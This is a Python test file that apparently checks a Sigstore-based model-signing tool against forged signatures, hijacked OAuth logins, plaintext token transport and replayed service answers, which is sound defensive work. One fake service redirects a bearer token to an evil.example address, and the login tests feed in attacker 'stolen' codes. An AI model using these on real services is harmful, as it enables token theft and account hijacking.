"""Rows 51, 57, 58 and 59: while something is signed, by whoever answers in a service's place, and for ever."""

from __future__ import annotations

import contextlib
import json
import logging
import threading
import urllib.request
import webbrowser
from typing import TYPE_CHECKING, Any, Final
from urllib.parse import parse_qs, urlsplit

import pytest

from attest import publish
from attest.cli import render
from attest.errors import AttestError
from attest.signing import browser, services
from attest.signing.bundle_signer import KeyBundleSigner
from attest.signing.services import Kind, Service
from attest.trust import tuf_mirror
from tests.attacks.release import TRAINING
from tests.services.patience import PATIENT
from tests.services.sigstore.instance import PERSON, _sigstore, other_sigstore, sigstore  # noqa: F401  # fixtures
from tests.services.sigstore.mirror import Mirror
from tests.signing.token_samples import jwt

if TYPE_CHECKING:
    from attest.claims.statement import Statement
    from tests.attacks.scene import Scene
    from tests.services.registry_connection import Handler
    from tests.services.sigstore.instance import Sigstore

TOKEN: Final = jwt()


@pytest.fixture(autouse=True)
def _patient(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(services, "PATIENCE", PATIENT)


def _push(scene: Scene, *more: str) -> tuple[str, ...]:
    folder = scene.release().folder.tree.root
    return ("push", str(folder), "demo/pushed", *more)


def _key(scene: Scene) -> tuple[str, str]:
    return "--key", str(scene.alice.key.origin)[:-4] + ".key"


# ---- row 51


class _Faulty(KeyBundleSigner, frozen=True, kw_only=True):
    """A device that says that it is one key's, and signs with another's."""

    other: KeyBundleSigner

    def sign_statement(self, statement: Statement) -> bytes:
        return self.other.sign_statement(statement)


def test_a_bundle_that_would_not_verify(scene: Scene) -> None:
    """Our own verifier looks first; nobody else has to find out."""
    folder = scene.release().folder
    good = publish.sign_claims(folder, TRAINING, model="demo/model", signer=KeyBundleSigner(signer=scene.alice.signer))
    scene.noted_honest(len(good.bundles) == len(good.statements), "nothing was signed")
    found: AttestError | None = None
    try:
        publish.sign_claims(
            folder,
            TRAINING,
            model="demo/model",
            signer=_Faulty(signer=scene.alice.signer, other=KeyBundleSigner(signer=scene.mallory.signer)),
        )
    except AttestError as error:
        found = error
    code, status = (found.code, found.exit_status) if found else (None, 0)
    scene.judge(outcome="refused" if found else "got through", code=code, status=status)
    assert (code, status) == ("signer-not-trusted", 1)


# ---- row 57


def _come_back(monkeypatch: pytest.MonkeyPatch, *tails: str) -> None:
    """A browser in which others come back first, and then the person."""

    def visit(url: str) -> bool:
        query = parse_qs(urlsplit(url).query)
        came, state = query["redirect_uri"][0], query["state"][0]
        addresses = [came + tail for tail in (*tails, f"?code=ours&state={state}")]
        threading.Thread(target=_visit_all, args=(addresses,), daemon=True).start()
        return True

    monkeypatch.setattr(webbrowser, "open", visit)


def _visit_all(addresses: list[str]) -> None:
    for address in addresses:
        with contextlib.suppress(OSError), urllib.request.urlopen(address, timeout=5):  # noqa: S310  # ours
            pass


@pytest.mark.parametrize("tail", ["?code=stolen&state=guessed", "?code=stolen", "?code=stolen&state="])
def test_a_login_that_somebody_else_finishes(scene: Scene, monkeypatch: pytest.MonkeyPatch, tail: str) -> None:
    """GHSA-hm8f-75xx-w2vr: the victim would sign as the attacker."""

    def log_in() -> str:
        return browser.visit("https://issuer.test/auth", {}, say=lambda _: None, seconds=30)[0]

    _come_back(monkeypatch)
    scene.noted_honest(log_in() == "ours", "another code")
    _come_back(monkeypatch, tail)
    scene.harmless(log_in() == "ours", why="not listened to")


@pytest.mark.parametrize("kind", [Kind.FULCIO, Kind.OIDC])
def test_a_token_on_its_way_without_tls(scene: Scene, kind: Kind) -> None:
    answers = {}
    for url in ("https://service.acme.test", "http://127.0.0.1:1", "http://service.acme.test", "http://192.0.2.1"):
        try:
            Service(kind=kind, url=url)
        except AttestError as error:
            answers[url] = (error.code, error.exit_status)
    *honest, attack, _ = ["https://service.acme.test", "http://127.0.0.1:1", "http://service.acme.test", ""]
    scene.noted_honest(not answers.keys() & set(honest), "an address that is safe")
    code, status = answers.get(attack, (None, 0))
    scene.judge(outcome="refused" if code else "got through", code=code, status=status)
    assert list(answers.values()) == [("service-without-tls", 2)] * 2


@pytest.mark.parametrize("repeats", ["message", "body", "claims", "redirect"])
def test_a_token_in_a_message(scene: Scene, repeats: str, caplog: pytest.LogCaptureFixture) -> None:
    """What a service says goes into messages and logs of other people's machines."""
    caplog.set_level(logging.DEBUG)
    claims = TOKEN.split(".")[1]

    def repeat(handler: Handler) -> None:
        given = handler.headers["Authorization"].removeprefix("Bearer ")
        said = {"message": json.dumps({"message": f"you sent {given}"}), "body": given, "claims": f"no {claims} here"}
        if repeats == "redirect":
            handler.reply(307, b"", {"Location": f"https://evil.example/?token={given}"})
            return
        handler.reply(400, said[repeats].encode())

    service = Service(kind=Kind.FULCIO, url=f"http://{scene.fake.host}", secret=TOKEN)
    headers = {"Authorization": f"Bearer {TOKEN}"}
    scene.fake.on("GET", "^/good", lambda handler: handler.reply(200, b"{}"))
    scene.noted_honest(service.ask("/good", asked="a certificate", headers=headers).body == b"{}", "no answer")
    scene.fake.on("GET", "^/bad", repeat)
    with pytest.raises(AttestError) as caught:
        service.ask("/bad", asked="a certificate", headers=headers)
    error = caught.value
    said = f"{error!r} {error.message} {error.expected} {error.found} {error.hint} {service!r} {caplog.text}"
    assert (error.code, error.exit_status) == ("fulcio-refused", 4)
    scene.harmless(claims not in said, why="not repeated")


# ---- row 58


@pytest.mark.parametrize(
    ("fault", "code"),
    [("replay", "tsa-answer"), ("status", "tsa-refused"), ("garbage", "tsa-answer")],
)
def test_a_timestamp_that_is_none(scene: Scene, sigstore: Sigstore, fault: str, code: str) -> None:  # noqa: F811
    """Of another signature, or none at all: sigstore-python goes on without."""
    push = _push(scene, *_key(scene), "--tsa", sigstore.timestamps)
    scene.honest(*push)
    sigstore.fault("tsa", fault, **({"status": 400} if fault == "status" else {}))
    scene.attack("push", str(_other(scene)), "demo/other", *push[3:], code=code, status=4)


def _other(scene: Scene) -> Any:
    return scene.release({"config.json": b"{}", "README.md": b"# Other\n"}).folder.tree.root


@pytest.mark.parametrize("version", ["1", "2"])
def test_a_log_entry_of_another_signature(scene: Scene, sigstore: Sigstore, version: str) -> None:  # noqa: F811
    push = _push(scene, *_key(scene), "--rekor", sigstore.url, "--rekor-version", version)
    scene.honest(*push)
    sigstore.fault("rekor", "replay")
    scene.attack("push", str(_other(scene)), "demo/other", *push[3:], code="rekor-answer", status=4)


def test_a_certificate_of_somebody_else(scene: Scene, sigstore: Sigstore) -> None:  # noqa: F811
    given = ("--keyless", "--trust-config", str(sigstore.trust_config()), "--identity-token", sigstore.token(**PERSON))
    scene.honest(*_push(scene, *given))
    sigstore.fault("fulcio", "replay")
    scene.attack("push", str(_other(scene)), "demo/other", *given, code="fulcio-answer", status=4)


# ---- row 59


@pytest.fixture
def public(other_sigstore: Sigstore, monkeypatch: pytest.MonkeyPatch) -> Sigstore:  # noqa: F811
    """A second instance that stands where Sigstore's public one is."""
    other_sigstore.heal()
    made = Mirror.make(other_sigstore)
    monkeypatch.setattr(tuf_mirror, "PUBLIC_GOOD", made.url)
    monkeypatch.setattr(tuf_mirror, "embedded_root", lambda url: {made.url: made.root}[url])
    return other_sigstore


def test_a_forgotten_flag(scene: Scene, sigstore: Sigstore, public: Sigstore) -> None:  # noqa: F811
    """A company's root is pinned: its own instance signs, and nothing goes into the log of everybody."""
    mirror = Mirror.make(sigstore)
    (scene.folder / "home").mkdir(exist_ok=True)
    (scene.folder / "home/root.json").write_bytes(mirror.root)
    where = ("--mirror", mirror.url, "--root", str(scene.folder / "home/root.json"))
    scene.honest("trust", "fetch", *where)
    token = ("--keyless", "--identity-token", sigstore.token(**PERSON))
    scene.honest(*_push(scene, *token, *where))
    scene.run("push", str(_other(scene)), "demo/other", *token)
    asked = public.asked("tuf") + public.asked("fulcio") + public.asked("rekor")
    scene.harmless(not asked, why="the company's own signs")


def test_a_public_log_that_nobody_meant(scene: Scene, public: Sigstore, monkeypatch: pytest.MonkeyPatch) -> None:
    """Said before a token is used, and asked where somebody is there to answer."""
    given = ("--keyless", "--identity-token", public.token(**PERSON))
    assert scene.honest(*_push(scene, *given)).status == 0
    before = public.asked("fulcio"), public.asked("rekor")
    monkeypatch.setattr(render, "on_terminal", lambda: True)
    monkeypatch.setattr(render, "confirm", lambda _: False)
    scene.attack("push", str(_other(scene)), "demo/other", *given, code="declined", status=130)
    assert (public.asked("fulcio"), public.asked("rekor")) == before


def test_a_log_entry_for_a_push_that_fails(scene: Scene, sigstore: Sigstore) -> None:  # noqa: F811
    """The timestamp that was asked for stays away; by then nothing may be in the log."""
    push = _push(scene, *_key(scene), "--tsa", sigstore.timestamps, "--rekor", sigstore.url, "--rekor-version", "2")
    scene.honest(*push)
    before = sigstore.asked("rekor")
    sigstore.fault("tsa", "status", status=400)
    scene.attack("push", str(_other(scene)), "demo/other", *push[3:], code="tsa-refused", status=4)
    scene.harmless(sigstore.asked("rekor") == before, why="nothing is logged")


def test_a_key_is_logged_on_demand_only(scene: Scene, sigstore: Sigstore, public: Sigstore) -> None:  # noqa: F811
    before = sigstore.asked("rekor")
    scene.honest(*_push(scene, *_key(scene), "--rekor", sigstore.url, "--rekor-version", "2"))
    assert sigstore.asked("rekor") > before
    before = sigstore.asked("rekor")
    scene.honest("push", str(_other(scene)), "demo/other", *_key(scene))
    scene.harmless((sigstore.asked("rekor"), public.asked("rekor")) == (before, 0), why="nothing is logged")
